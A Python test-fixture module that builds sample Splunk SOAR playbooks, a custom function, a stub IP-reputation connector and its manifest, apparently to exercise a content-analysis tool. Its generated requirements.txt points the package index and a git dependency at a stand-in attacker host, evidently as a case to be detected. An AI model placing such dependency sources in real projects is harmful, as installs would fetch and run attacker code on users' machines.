"""Classic content of our own making: two playbooks with a function they share, and a connector."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

PLAYBOOK = '''\
"""Look an address up."""
import phantom.rules as phantom


def on_start(container):
    phantom.custom_function(custom_function="community/first_of", parameters=[{"values": ["a"]}], name="first", callback=look_up)


def look_up(action=None, success=None, container=None, results=None, handle=None, **kwargs):
    phantom.act("IP Reputation", parameters=[{"ip": "192.0.2.1"}], name="ask_1", assets=["feeds"], callback=decide)


def decide(action=None, success=None, container=None, results=None, handle=None, **kwargs):
    phantom.act(action="block ip", parameters=[{"ip": "192.0.2.1"}], name="block_1")
    phantom.playbook("local/Tell Somebody", container=container, name="child")


def on_finish(container, summary):
    return
'''
FUNCTION = "def first_of(values=None, **kwargs):\n    return {'item': (values or [None])[0]}\n"
DRAWING: Mapping[str, Any] = {
    "labels": ["*", "scan"],
    "coa": {
        "data": {"description": "Looks an address up.\nAnd more."},
        "input_spec": [{"name": "ip", "description": "An address", "contains": ["ip"]}],
        "playbook_type": "data",
        "python_version": "3",
    },
}
CONNECTOR = '''\
import phantom.app as phantom
import requests
import whois
from phantom.action_result import ActionResult
from phantom.base_connector import BaseConnector

URL = "https://api.feeds.example-vendor.com/v1"
MANUAL = "see https://docs.python.org and http://www.w3.org/TR"


class FeedsConnector(BaseConnector):
    def handle_action(self, param):
        result = self.add_action_result(ActionResult(dict(param)))
        result.add_data({"verdict": "benign"})
        return result.set_status(phantom.APP_SUCCESS)
'''
MANIFEST: Mapping[str, Any] = {
    "appid": "0b4d64e1-4f32-4a0e-9f0b-9e1c4c3c0a11",
    "name": "Feeds of Ours",
    "description": "Asks feeds",
    "type": "reputation",
    "product_vendor": "Ours",
    "product_name": "Feeds",
    "product_version_regex": ".*",
    "publisher": "Us",
    "license": "Apache-2.0",
    "package_name": "phantom_our_feeds",
    "app_version": "2.3.4",
    "main_module": "feeds_connector.pyc",
    "min_phantom_version": "5.0.0",
    "python_version": "3.9, 3.13",
    "configuration": {
        "api key": {"data_type": "password", "required": True, "order": 1},
        "base_url": {"data_type": "string", "required": True, "order": 0, "description": "Where it is"},
        "port": {"data_type": "numeric", "default": 8443, "order": 2},
        "divider": {"data_type": "ph", "order": 3},
    },
    "actions": [
        {
            "action": "ip reputation", "identifier": "ip_reputation", "type": "investigate", "read_only": True,
            "description": "Ask about an address", "versions": "EQ(*)",
            "parameters": {
                "ip": {"data_type": "string", "required": True, "contains": ["ip"], "order": 0},
                "how many": {"data_type": "numeric", "default": 3, "order": 1},
            },
            "output": [
                {"data_path": "action_result.status", "data_type": "string"},
                {"data_path": "action_result.data.*.verdict", "data_type": "string"},
                {"data_path": "action_result.summary.hits", "data_type": "numeric", "example_values": [3]},
                {"data_path": "action_result.data.*.owners.*.name", "data_type": "string", "contains": ["user name"]},
            ],
        },
        {
            "action": "block ip", "identifier": "block_ip", "type": "contain", "read_only": True,
            "parameters": {}, "output": "none",
        },
    ],
}  # fmt: skip


def playbook_files() -> dict[str, str]:
    """A repository as they are: everything at the top, and functions in a folder."""
    return {
        "Look Up.py": PLAYBOOK,
        "Look Up.json": json.dumps(DRAWING),
        "Look Up.png": "not looked at",
        "Tell Somebody.py": "import phantom.rules as phantom\n\ndef on_start(container):\n    phantom.debug('told')\n",
        "custom_functions/first_of.py": FUNCTION,
        "custom_functions/first_of.json": "{}",
        "tools/run.py": "import phantom.rules\n",
        "tools/data.json": '{"appid": "no", "main_module": "run.py"}',
    }


def connector_files(**changes: Any) -> dict[str, str]:
    """A repository with one connector; ``changes`` are to its manifest."""
    return {
        "feeds.json": json.dumps({**MANIFEST, **changes}),
        "feeds_connector.py": CONNECTOR,
        "requirements.txt": "six==1.16.0  # for old times\n--index-url http://evil.example/\nx @ git+https://evil.example/x\n",
        "README.md": "# Feeds\n",
        "tests/test_feeds.py": "URL = 'https://only-in-tests.example-vendor.com'\n",
    }
